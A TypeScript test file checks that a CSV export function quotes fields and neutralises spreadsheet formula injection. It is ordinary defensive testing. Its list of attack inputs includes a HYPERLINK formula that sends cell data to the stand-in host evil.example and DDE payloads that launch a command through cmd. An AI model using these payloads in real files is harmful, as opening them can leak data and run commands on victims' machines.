import assert from "node:assert/strict";
import test from "node:test";
import { csvOf } from "./csv.ts";

test("CSV has a byte order mark and semicolons, and quotes what needs it", () => {
  assert.equal(
    csvOf([
      ["Day", 'A "name"'],
      ["2026-11-22", "a;b\nc"],
    ]).toString(),
    '\ufeffDay;"A ""name"""\r\n2026-11-22;"a;b\nc"\r\n',
  );
});

const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
/** What somebody may call themselves so that a spreadsheet reckons instead of showing it. */
const attacks = [
  ...signs.map((sign) => `${sign}1+1`),
  ...["\t", "\r", "\n", "\r\n"].flatMap((blank) => [`${blank}=1+1`, `${blank}1`]),
  ...[" ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\0", '"', "'", '"" '].map((lead) => `${lead}=1+1`),
  ...[",", ";", "\t", "|", "\n", '","', '";"', ", ", ';"\u200b'].flatMap((end) =>
    signs.map((sign) => `Ada${end}${sign}1+1`),
  ),
  `=HYPERLINK("https://evil.example?"&A1;"Ada")`,
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

/** Cells as spreadsheets read them that take this sign for the end of a cell, whatever stands in quotes. */
const cellsOf = (text: string, end: string) =>
  text
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(end))
    .map((cell) => cell.replaceAll(/["\s\p{Cf}\p{Cc}]/gu, ""));

test("pattern 39: a cell never becomes a formula, in any column, whatever ends a cell where it is opened", () => {
  for (const attack of attacks) {
    const text = csvOf([
      [attack, "between", attack],
      ["Ada", attack, attack],
    ]).toString();
    for (const end of [";", ",", "\t", "|"]) {
      const formulas = cellsOf(text, end).filter((cell) => signs.some((sign) => cell.startsWith(sign)));
      assert.deepEqual(formulas, [], `${JSON.stringify(attack)} where ${JSON.stringify(end)} ends a cell`);
    }
  }
});

test("pattern 39: names and texts that begin nothing stay as they are", () => {
  const names = [
    "O'Neill-Meier",
    "a@example.com",
    "1+1=2",
    "C++ & Co. KG",
    'Hotel "Post"',
    "x,y;z",
    '{"a":"-1"}',
  ];
  const text = csvOf([names]).toString();
  for (const name of names) assert.ok(text.includes(name.replaceAll('"', '""')), name);
});
